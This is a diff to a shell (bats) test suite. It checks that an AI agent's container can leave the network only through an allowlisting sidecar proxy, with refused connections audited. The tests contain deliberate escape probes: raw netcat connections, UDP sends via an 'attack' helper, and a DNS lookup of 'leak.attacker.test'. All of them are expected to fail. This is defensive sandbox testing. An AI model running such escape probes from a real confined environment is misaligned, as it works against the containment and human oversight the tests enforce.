@@ -2,7 +2,8 @@
 # egress: the agent's only way out is its sidecar proxy, by allowlist.
 # Against the test's own "internet" (helpers/egress.bash): allowlisted
 # names are fetched with busybox wget and curl, everything else is refused
-# with a reason, there is no direct TCP or UDP route, the metadata,
+# with a reason, there is no direct TCP or UDP route (TCP meets the
+# sidecar's transparent listener: egress-transparent.bats), the metadata,
 # loopback and private addresses stay out of reach even when their names
 # are allowlisted; exec'd processes are confined the same way;
 # run.agentrt.egress=none has no sidecar; a dead sidecar means no egress
@@ -66,28 +67,30 @@ CURL=/host/usr/bin/curl
   [[ $output != *"hello from"* ]] || fail "$output"
 }
 
-@test "egress: no direct way out (TCP, UDP, DNS), only lo in the namespace" {
+@test "egress: no direct way out (TCP meets the sidecar, UDP and DNS to others fail), only lo in the namespace" {
   requires_curl
   local script="
-    busybox nc -w 2 1.2.3.10 80 </dev/null; echo tcp=\$?
+    printf 'GET / HTTP/1.0\r\n\r\n' | busybox nc -w 2 1.2.3.10 80 2>&1 | grep -c hello | sed 's/^/tcp /'
     $CURL -sS --noproxy '*' -m 3 http://1.2.3.10/; echo curl=\$?
     attack udp 1.2.3.10 9999; echo udp=\$?
     attack udp 3ffe:213::10 9999; echo udp6=\$?
-    busybox nslookup web.test 1.2.3.10 >/dev/null 2>&1; echo dns=\$?
+    busybox nslookup leak.attacker.test 1.2.3.10 >/dev/null 2>&1; echo dns=\$?
     ip -o link | awk '{ print \"link\", \$2 }'
-    ip route | wc -l | sed 's/^/routes /'"
+    ip route | sed 's/^/route /'"
   local datagrams
   datagrams=$(wc -l <"$EGRESS_UDP_LOG")
   run_ct sh -c "$script"
-  has_line "tcp=1"
+  has_line "tcp 0"
   has_line "udp=1"
   has_line "udp6=1"
   has_line "dns=1"
-  [[ $output == *"Network is unreachable"* ]] || fail "$output"
+  [[ $output == *"Recv failure: Connection reset by peer"* ]] || fail "$output"
   [[ $output != *"hello from"* && $output != *"curl=0"* ]] || fail "$output"
   has_line "link lo:"
   [[ $(grep -c '^link ' <<<"$output") -eq 1 ]] || fail "more than lo: $output"
-  has_line "routes 0"
+  # the route that lets connections reach the rules, out of lo only
+  has_line "route default dev lo scope link  src 127.0.0.1 "
+  [[ $(grep -c '^route ' <<<"$output") -eq 1 ]] || fail "$output"
   [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]] || fail "a datagram arrived: $(cat "$EGRESS_UDP_LOG")"
 
   # the control: the same bundle under runc is in OUT itself, and walks out
@@ -121,11 +124,12 @@ CURL=/host/usr/bin/curl
   rt exec "$CT_ID" sh -c '
     busybox wget -q -O - http://web.test/
     busybox wget -q -O - http://other.test/ 2>&1 | grep -o "403 Forbidden"
-    busybox nc -w 2 1.2.3.10 80 </dev/null 2>&1
+    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 \
+      | grep -c hello | sed "s/^/direct /"
     echo "mine $(readlink /proc/self/ns/net) init $(readlink /proc/1/ns/net)"'
   has_line "hello from web"
   has_line "403 Forbidden"
-  [[ $output == *"Network is unreachable"* ]] || fail "$output"
+  has_line "direct 0"
   local mine init
   read -r _ mine _ init < <(grep '^mine ' <<<"$output")
   [[ -n $mine && $mine == "$init" ]] || fail "exec'd process in another netns: $output"
@@ -133,6 +137,8 @@ CURL=/host/usr/bin/curl
     || fail "the exec'd process is in the outside namespace"
   egress_events | jq -se 'any(.[]; .host == "web.test" and .decision == "allow")' >/dev/null \
     || fail "no audit line for the exec'd fetch"
+  egress_events | jq -se 'any(.[]; .proto == "tcp" and .via == "host" and .host == "other.test"
+      and .decision == "deny")' >/dev/null || fail "no audit line for the exec'd raw connection"
 }
 
 @test "egress: run.agentrt.egress=none: no sidecar, no way out" {
@@ -263,13 +269,13 @@ for _ in range(50):
   update_config '.linux.namespaces |= map(select(.type != "network"))
     | .mounts |= map(select(.destination != "/etc/hosts" and .destination != "/etc/resolv.conf"))'
   set_cmd sh -c 'busybox wget -q -O - http://web.test/; busybox wget -q -O - http://other.test/ 2>&1 | grep -o 403
-    busybox nc -w 2 1.2.3.10 80 </dev/null; echo tcp=$?'
+    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 | grep -c hello | sed "s/^/direct /"'
   egress_hostnet run --bundle "$BUNDLE" "$CT_ID" >"$BATS_TEST_TMPDIR/hostnet.out" 2>&1 </dev/null && status=0 || status=$?
   output=$(<"$BATS_TEST_TMPDIR/hostnet.out")
   check_status 0
   has_line "hello from web"
   has_line 403
-  has_line "tcp=1"
+  has_line "direct 0"
   audit_events create | jq -e '.directives.network | .bundle == "host" and .agent == "own" and .outside == "runtime"' >/dev/null || fail "$(audit_events create)"
   ! grep -qF web.test /etc/hosts || fail "the host's /etc/hosts was changed"
 }
@@ -285,13 +291,13 @@ standalone_bundle ()
 @test "egress: a standalone bundle (a new namespace nobody configures) goes out through the runtime's network (egress.uplink auto), recorded" {
   standalone_bundle
   set_cmd sh -c 'busybox wget -q -O - http://web.test/; busybox wget -q -O - http://other.test/ 2>&1 | grep -o 403
-    busybox nc -w 2 1.2.3.10 80 </dev/null; echo tcp=$?'
+    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 | grep -c hello | sed "s/^/direct /"'
   egress_hostnet run --bundle "$BUNDLE" "$CT_ID" >"$BATS_TEST_TMPDIR/out" 2>&1 </dev/null && status=0 || status=$?
   output=$(<"$BATS_TEST_TMPDIR/out")
   check_status 0
   has_line "hello from web"
   has_line 403
-  has_line "tcp=1"
+  has_line "direct 0"
   audit_events create | jq -e '.directives.network | .bundle == "new" and .agent == "own" and .outside == "runtime"' >/dev/null \
     || fail "$(audit_events create)"
   audit_events create | jq -e '.changes[] | select(.kind == "egress" and (.why | contains("egress.uplink auto")))' >/dev/null \
